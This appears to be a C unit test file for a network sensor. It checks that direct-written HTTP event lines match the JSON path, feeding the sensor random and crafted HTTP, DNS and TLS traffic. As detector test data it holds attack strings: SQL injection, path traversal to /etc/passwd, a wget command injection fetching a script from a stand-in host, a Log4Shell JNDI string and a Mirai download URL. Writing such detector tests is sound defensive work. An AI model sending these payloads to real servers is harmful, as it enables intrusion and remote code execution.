/* SPDX-License-Identifier: Apache-2.0
 * HTTP events without a jansson object (eve-http.c) against the JSON path
 * they replace, byte for byte:
 *   - the line: random and crafted requests and responses go through the
 *     real decoder; for each message the direct line (written from the
 *     typed event into one EVE writer) must equal the line the writer makes
 *     of the decoder's JSON event (into another), and the facts must say
 *     what the JSON facts say. Fields carry control bytes, quotes,
 *     backslashes, DEL, valid and broken UTF-8, lengths around the 4096-byte
 *     cut and up to the 16 KiB header limit, or are missing; headers vary
 *     (IPv4/IPv6, VLAN tags, with and without a flow, pcap_cnt 0, flow ids
 *     with the top bit, times across the years);
 *   - the sensor: two sensors given the same HTTP conversations (attacks and
 *     listed hosts among them, so the web-attack and intel detectors raise
 *     alerts from the stand-in, and user agents reach the inventory), one
 *     taking the direct path and one kept on the JSON path, must write the
 *     same EVE file. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "../test-rand.h"
#include "../test-tmpdir.h"
#include "core/error.h"
#include "pktbuild.h"
#include "sensor/capture.h"
#include "sensor/eve-http.h"
#include "sensor/flow.h"
#include "sensor/intel/intel.h"
#include "sensor/sensor-int.h"
#include "test-eve-direct.h"

extern const struct mm_app_decoder mm_app_http;

static uint64_t rng;

static uint64_t rnd(uint64_t n)
{
    return test_xorshift(&rng) % n;
}

/* ---- random messages ------------------------------------------------------------ */

/* A field value: plain text mostly, else odd bytes of every kind, lengths
 * around the 4096-byte cut. Never CR or LF (they end the header line). */
static size_t gen_value(char *out, size_t max)
{
    static const char *const odd[] = {"\"",
                                      "\\",
                                      "\x01",
                                      "\x7f",
                                      "\t",
                                      "\xc3\xa9",
                                      "\xe3\x81\x82",
                                      "\xf0\x9f\x98\x80",
                                      "\xff",
                                      "\xc3",
                                      "\xe3\x81",
                                      "\xed\xa0\x80",
                                      "\x1b[0m",
                                      "\b\f",
                                      "/",
                                      "<script>",
                                      "%00",
                                      " "};
    static const size_t lengths[] = {0, 1, 7, 15, 16, 17, 100, 1000, 4095, 4096, 4097, 5000};
    size_t want = rnd(4) ? rnd(60) : lengths[rnd(sizeof lengths / sizeof lengths[0])];
    bool plain = rnd(3) == 0;
    size_t n = 0;
    if (want > max)
        want = max;
    while (n < want) {
        const char *piece =
            plain || rnd(4) ? "abcXYZ019-._~:/?=&" + rnd(18) : odd[rnd(sizeof odd / sizeof odd[0])];
        size_t k = plain || strlen(piece) == 0 ? 1 : strlen(piece);
        if (n + k > want)
            break;
        memcpy(out + n, piece, k);
        n += k;
    }
    return n;
}

static size_t put(char *out, size_t at, const char *s)
{
    size_t n = strlen(s);
    memcpy(out + at, s, n);
    return at + n;
}

/* A header line "Name: value\r\n" with a random value, sometimes. */
static size_t gen_header(char *out, size_t at, size_t cap, const char *name)
{
    if (rnd(5) == 0 || at + 6000 > cap)
        return at;
    at = put(out, at, name);
    at = put(out, at, rnd(4) ? ": " : ":\t ");
    at += gen_value(out + at, 5000);
    return put(out, at, rnd(8) ? "\r\n" : "\n");
}

static size_t gen_request(char *out, size_t cap)
{
    static const char *const methods[] = {"GET", "POST", "HEAD", "PUT", "OPTIONS", "PROPFIND"};
    static const char *const hosts[] = {
        "Example.COM", "a.example:8080",   "[2001:db8::1]:80",   "[2001:db8::2]",
        "203.0.113.9", "Bad\x01Host.\xff", "h\xc3\xa9t.example", ""};
    size_t at = put(out, 0, methods[rnd(sizeof methods / sizeof methods[0])]);
    at = put(out, at, " ");
    at += gen_value(out + at, 5000);
    if (rnd(6))
        at = put(out, at, rnd(3) ? " HTTP/1.1" : " HTTP/1.0 extra");
    at = put(out, at, "\r\n");
    if (rnd(5)) {
        at = put(out, at, rnd(2) ? "Host: " : "HOST:");
        at = put(out, at, rnd(3) ? hosts[rnd(sizeof hosts / sizeof hosts[0])] : "");
        if (rnd(4) == 0)
            at += gen_value(out + at, 1500);
        at = put(out, at, "\r\n");
    }
    at = gen_header(out, at, cap, rnd(2) ? "User-Agent" : "user-agent");
    at = gen_header(out, at, cap, "Referer");
    at = gen_header(out, at, cap, "X-Other");
    return put(out, at, "\r\n");
}

static size_t gen_response(char *out, size_t cap)
{
    static const char *const lines[] = {"HTTP/1.1 200 OK",       "HTTP/1.0 404 Not Found",
                                        "HTTP/1.1 304 x",        "HTTP/1.1 204 ",
                                        "HTTP/1.1 100 Continue", "HTTP/1.1 500"};
    size_t at = put(out, 0, lines[rnd(sizeof lines / sizeof lines[0])]);
    at = put(out, at, "\r\n");
    at = gen_header(out, at, cap, "Content-Type");
    if (rnd(3)) {
        char len[32];
        snprintf(len, sizeof len, "Content-Length: %llu\r\n",
                 rnd(3) ? 0ULL : (unsigned long long)rnd(1000000000000ULL));
        at = put(out, at, len);
    }
    return put(out, at, "\r\n");
}

/* ---- the line against the JSON path ------------------------------------------------ */

struct line_run {
    struct ed_line_files files;
    struct mm__http_facts facts; /* the direct path's */
    bool facts_set;
    unsigned lines;
};

static struct line_run *line_run;

/* The decoder's direct hook: writes the direct line and notes its facts,
 * then declines, so the decoder emits the JSON event too. */
static bool write_direct(struct mm_app_ctx *ctx, const struct mm__http_message *m)
{
    struct mm__http_event e;
    mm__http_event_fill(&e, ctx, m);
    memset(&line_run->facts, 0, sizeof line_run->facts);
    mm__http_event_facts(&e, &line_run->facts);
    line_run->facts_set = true;
    assert_int_equal(mm__http_line_write(line_run->files.direct_out, &e), 0);
    return false;
}

static void expect_same_text(const char *a, const char *b)
{
    assert_int_equal(a != NULL, b != NULL);
    if (a)
        assert_string_equal(a, b);
}

static void on_json(struct mm_app_ctx *ctx, json_t *ev)
{
    (void)ctx;
    const struct mm__http_facts *hf = mm__http_facts_of(json_object_get(ev, "http"));
    const struct mm__http_facts *d = &line_run->facts;
    assert_non_null(hf);
    assert_true(line_run->facts_set);
    assert_int_equal(d->response, hf->response);
    expect_same_text(d->url, hf->url);
    expect_same_text(d->hostname, hf->hostname);
    expect_same_text(d->method, hf->method);
    expect_same_text(d->user_agent, hf->user_agent);
    assert_int_equal(d->has_src, hf->has_src);
    assert_memory_equal(&d->src, &hf->src, sizeof d->src);
    line_run->facts_set = false;
    assert_int_equal(mm_eve_out_write(line_run->files.json_out, ev), 0);
    line_run->lines++;
    json_decref(ev);
}

/* One message through the decoder, both ways. */
static void run_message(const char *msg, size_t n, bool response)
{
    struct mm_packet p;
    struct mm_flow f;
    bool with_flow;
    void *state = NULL;
    ed_random_context(&rng, &p, &f, &with_flow, IPPROTO_TCP, ED_ANY_PORT);
    struct mm_app_ctx ctx = {
        .sensor = (struct mm_sensor *)&f, /* any non-NULL pointer: the hook is asked */
        .pkt = &p,
        .flow = with_flow ? &f : NULL,
        .state = &state,
        .dir = response,
        .emit = on_json,
    };
    long r = mm_app_http.parse(&ctx, (const uint8_t *)msg, n);
    assert_true(r >= 0 || r == MM_ETOOBIG); /* a header block past 16 KiB: no event */
    mm_app_http.state_free(state);
}

static void test_line_equals_json(void **state)
{
    (void)state;
    struct line_run run = {0};
    line_run = &run;
    ed_line_files_open(&run.files, "eve-http");
    mm__http_direct = write_direct;
    static char msg[20000];
    rng = 0x9e3779b97f4a7c15ULL;
    for (unsigned i = 0; i < 4000; i++) {
        bool response = rnd(3) == 0;
        size_t n = response ? gen_response(msg, sizeof msg) : gen_request(msg, sizeof msg);
        run_message(msg, n, response);
    }
    mm__http_direct = NULL;
    size_t lines = ed_line_files_close_expect_same(&run.files);
    assert_int_equal(lines, run.lines);
    assert_true(lines > 3500); /* a few messages pass the 16 KiB header limit */
    ed_line_files_remove(&run.files);
}

/* ---- two sensors: direct and JSON ---------------------------------------------------- */

#define FEED                                                                                       \
    "evil.example\n"                                                                               \
    "203.0.113.66\n"                                                                               \
    "http://dl.example/mirai.x86\n"

/* A request the detectors care about, at random: attacks, scanners'
 * agents, listed hosts and URLs, and odd bytes. */
static size_t gen_sensor_request(char *out, size_t cap)
{
    static const char *const urls[] = {"/",
                                       "/x?id=1+union+select+1",
                                       "/../../etc/passwd",
                                       "/a?q=%3Cscript%3E",
                                       "/mirai.x86",
                                       "/p/%u",
                                       "/cgi-bin/;wget%20http://x/y.sh",
                                       "/img/a.png"};
    static const char *const hosts[] = {"evil.example", "Evil.Example:8080", "203.0.113.66",
                                        "dl.example",   "ok.example",        NULL};
    static const char *const agents[] = {"Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
                                         "sqlmap/1.7",
                                         "Nikto/2.5",
                                         "${jndi:ldap://x/a}",
                                         "Mozilla/5.0 (iPhone; CPU iPhone OS 16_0 like Mac OS X)",
                                         NULL};
    const char *url = urls[rnd(sizeof urls / sizeof urls[0])];
    const char *host = hosts[rnd(sizeof hosts / sizeof hosts[0])];
    const char *ua = agents[rnd(sizeof agents / sizeof agents[0])];
    char path[64];
    if (strcmp(url, "/p/%u") == 0) { /* many distinct paths: the web scan */
        snprintf(path, sizeof path, "/p/%u", (unsigned)rnd(40));
        url = path;
    }
    size_t at = put(out, 0, rnd(4) ? "GET " : "POST ");
    at = put(out, at, url);
    if (rnd(5) == 0)
        at += gen_value(out + at, 200);
    at = put(out, at, " HTTP/1.1\r\n");
    if (host) {
        at = put(out, at, "Host: ");
        at = put(out, at, host);
        at = put(out, at, "\r\n");
    }
    if (ua) {
        at = put(out, at, "User-Agent: ");
        at = put(out, at, ua);
        if (rnd(5) == 0)
            at += gen_value(out + at, 200);
        at = put(out, at, "\r\n");
    }
    (void)cap;
    return put(out, at, "\r\n");
}

/* A DNS name at random: listed, generated-looking, plain. */
static void gen_name(char *out, size_t cap)
{
    static const char *const names[] = {"evil.example", "www.ok.example", "dl.example",
                                        "mail.example.co.jp"};
    if (rnd(3) == 0) {
        size_t n = 8 + rnd(20);
        for (size_t i = 0; i < n; i++)
            out[i] = (char)('a' + rnd(26));
        snprintf(out + n, cap - n, rnd(2) ? ".com" : ".example");
        return;
    }
    snprintf(out, cap, "%s", names[rnd(sizeof names / sizeof names[0])]);
}

/* A query or its answer (an address, or NXDOMAIN) for name. */
static size_t gen_dns(uint8_t *out, const char *name, bool response)
{
    bool nx = rnd(3) == 0;
    size_t o = 0;
    uint16_t id = (uint16_t)rnd(65536);
    uint8_t head[12] = {(uint8_t)(id >> 8),
                        (uint8_t)id,
                        response ? 0x81 : 0x01,
                        response ? (nx ? 0x83 : 0x80) : 0x00,
                        0,
                        1,
                        0,
                        response && !nx,
                        0,
                        0,
                        0,
                        0};
    memcpy(out, head, 12);
    o = 12;
    for (const char *l = name; *l;) {
        const char *dot = strchr(l, '.');
        size_t n = dot ? (size_t)(dot - l) : strlen(l);
        out[o++] = (uint8_t)n;
        memcpy(out + o, l, n);
        o += n;
        l += n + (dot != NULL);
    }
    out[o++] = 0;
    static const uint8_t q[] = {0, 1, 0, 1};
    memcpy(out + o, q, 4);
    o += 4;
    if (response && !nx) {
        uint8_t an[] = {0xc0, 0x0c, 0, 1, 0,   1, 0,   0,
                        0,    60,   0, 4, 203, 0, 113, (uint8_t)(rnd(2) ? 66 : rnd(256))};
        memcpy(out + o, an, sizeof an);
        o += sizeof an;
    }
    return o;
}

/* A TLS record holding a ClientHello with the SNI name. */
static size_t gen_client_hello(uint8_t *out, const char *name)
{
    size_t nl = strlen(name), o = 0;
    uint8_t body[512];
    size_t b = 0;
    body[b++] = 3;
    body[b++] = 3;
    for (int i = 0; i < 32; i++)
        body[b++] = (uint8_t)rnd(256);
    body[b++] = 0; /* session id */
    static const uint8_t suites[] = {0, 6, 0x13, 0x01, 0xc0, 0x2f, 0x00, 0x2f, 1, 0};
    memcpy(body + b, suites, sizeof suites);
    b += sizeof suites;
    size_t ext = nl + 9;
    body[b++] = (uint8_t)(ext >> 8);
    body[b++] = (uint8_t)ext;
    uint8_t sni[] = {0,
                     0,
                     (uint8_t)((nl + 5) >> 8),
                     (uint8_t)(nl + 5),
                     (uint8_t)((nl + 3) >> 8),
                     (uint8_t)(nl + 3),
                     0,
                     (uint8_t)(nl >> 8),
                     (uint8_t)nl};
    memcpy(body + b, sni, sizeof sni);
    b += sizeof sni;
    memcpy(body + b, name, nl);
    b += nl;
    uint8_t rec[] = {
        0x16, 3, 1, (uint8_t)((b + 4) >> 8), (uint8_t)(b + 4), 1, 0, (uint8_t)(b >> 8), (uint8_t)b};
    memcpy(out, rec, sizeof rec);
    o = sizeof rec;
    memcpy(out + o, body, b);
    return o + b;
}

/* The web server: the listed address two times in three. */
static const struct ed_server server = {"2001:db8:ffff::80", "203.0.113.66", "192.0.2.80", 80};

/* The same exchange to both sensors: an HTTP conversation (a request,
 * sometimes a second one on the same flow, a response), a DNS query and
 * its answer, or a TLS ClientHello. */
static void conversation(struct ed_sensor_run *runs, double t, void *unused)
{
    (void)unused;
    struct ed_endpoint c, srv;
    bool v6 = rnd(4) == 0;
    uint16_t vlan = rnd(5) == 0 ? (uint16_t)(1 + rnd(4000)) : 0;
    char msg[3000], resp[6000], name[64];
    uint8_t q[600], a[600];
    ed_random_endpoint(&rng, &c, NULL, v6);
    ed_random_endpoint(&rng, &srv, &server, v6);
    unsigned kind = (unsigned)rnd(5);
    gen_name(name, sizeof name);
    size_t n = 0, rn = 0;
    if (kind < 3) {
        n = gen_sensor_request(msg, sizeof msg);
        rn = gen_response(resp, sizeof resp);
    } else if (kind == 3) {
        srv.port = 53;
        n = gen_dns(q, name, false);
        rn = gen_dns(a, name, true);
    } else {
        srv.port = 443;
        n = gen_client_hello(q, name);
    }
    bool second = rnd(3) == 0;
    for (int k = 0; k < 2; k++) {
        struct mm_sensor *s = runs[k].s;
        if (kind == 3) {
            ed_send_datagram(s, &c, &srv, t, q, n);
            ed_send_datagram(s, &srv, &c, t + 0.05, a, rn);
        } else if (kind == 4) {
            ed_send_segment(s, &c, &srv, 1000, vlan, t, (const char *)q, n);
        } else {
            ed_send_segment(s, &c, &srv, 1000, vlan, t, msg, n);
            if (second)
                ed_send_segment(s, &c, &srv, 1000 + (uint32_t)n, vlan, t + 0.1, msg, n);
            if (rn < 1400)
                ed_send_segment(s, &srv, &c, 7000, vlan, t + 0.2, resp, rn);
        }
    }
}

/* The detectors set to alert on every hit. */
#define INI                                                                                        \
    "[detect.web-attack]\nsuppress_seconds = 0\nscan_sources = any\npaths = 3\n"                   \
    "[detect.intel]\nsuppress_seconds = 0\n"                                                       \
    "[detect.suspicious-dns]\nsuppress_seconds = 0\nclients = any\nnxdomain = 2\n"

static void test_sensor_direct_equals_json(void **state)
{
    (void)state;
    /* the test means something: HTTP events, alerts from both detectors */
    static const struct ed_least least[] = {{"\"event_type\":\"http\"", 1200},
                                            {"\"event_type\":\"dns\"", 500},
                                            {"\"event_type\":\"tls\"", 200},
                                            {"\"detector\":\"suspicious-dns\"", 10},
                                            {"\"detector\":\"web-attack\"", 50},
                                            {"\"detector\":\"intel\"", 50},
                                            {"\"vlan\":[", 100}};
    const struct ed_pair_test t = {.tag = "eve-http",
                                   .ini = INI,
                                   .feed = FEED,
                                   .count = 1500,
                                   .step = 0.7,
                                   .exchange = conversation,
                                   .min_direct = 2000,
                                   .least = least,
                                   .nleast = sizeof least / sizeof least[0]};
    rng = 77;
    ed_pair_test(&t);
}

/* The real captures beside the project, each through both sensors. */
static void test_shared_captures(void **state)
{
    (void)state;
    ed_shared_captures("eve-http", INI, FEED);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_line_equals_json),
        cmocka_unit_test(test_sensor_direct_equals_json),
        cmocka_unit_test(test_shared_captures),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
